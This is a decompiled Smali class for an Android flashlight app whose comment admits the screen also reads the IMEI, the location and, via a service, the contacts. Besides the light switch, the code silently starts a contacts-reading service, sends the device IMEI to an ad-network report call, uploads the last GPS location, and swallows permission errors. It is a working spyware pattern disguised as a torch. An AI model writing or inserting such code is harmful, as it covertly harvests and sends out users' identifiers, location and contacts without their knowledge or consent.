# The one screen: a switch for the light. It also reads the IMEI and the place, and starts the service that reads the contacts.
.class public Lcom/example/torch/TorchActivity;
.super Landroid/app/Activity;


.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    const v0, 0x7f030000    # R.layout.torch
    invoke-virtual {p0, v0}, Lcom/example/torch/TorchActivity;->setContentView(I)V

    const v0, 0x7f050000    # R.id.switch_on
    invoke-virtual {p0, v0}, Lcom/example/torch/TorchActivity;->findViewById(I)Landroid/view/View;
    move-result-object v0
    new-instance v1, Lcom/example/torch/LightListener;
    invoke-direct {v1, p0}, Lcom/example/torch/LightListener;-><init>(Landroid/content/Context;)V
    invoke-virtual {v0, v1}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V

    new-instance v0, Landroid/content/Intent;
    const-class v1, Lcom/example/torch/FriendService;
    invoke-direct {v0, p0, v1}, Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V
    invoke-virtual {p0, v0}, Lcom/example/torch/TorchActivity;->startService(Landroid/content/Intent;)Landroid/content/ComponentName;

    return-void
.end method


.method protected onResume()V
    .registers 3

    invoke-super {p0}, Landroid/app/Activity;->onResume()V

    :try_start
    invoke-direct {p0}, Lcom/example/torch/TorchActivity;->imei()Ljava/lang/String;
    move-result-object v0
    const-string v1, ""
    invoke-static {v0, v1, v1}, Lio/example/adnet/AdNet;->report(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)V
    invoke-direct {p0}, Lcom/example/torch/TorchActivity;->sendPlace()V
    :try_end
    .catch Ljava/lang/SecurityException; {:try_start .. :try_end} :refused

    return-void

    :refused
    move-exception v0

    return-void
.end method


.method private imei()Ljava/lang/String;
    .registers 3

    const-string v0, "phone"
    invoke-virtual {p0, v0}, Lcom/example/torch/TorchActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0

    return-object v0
.end method


.method private sendPlace()V
    .registers 3

    const-string v0, "location"
    invoke-virtual {p0, v0}, Lcom/example/torch/TorchActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/location/LocationManager;
    const-string v1, "gps"
    invoke-virtual {v0, v1}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;
    move-result-object v0
    if-eqz v0, :unknown

    invoke-virtual {v0}, Landroid/location/Location;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/example/torch/Uploader;->send(Ljava/lang/String;)V

    :unknown
    return-void
.end method
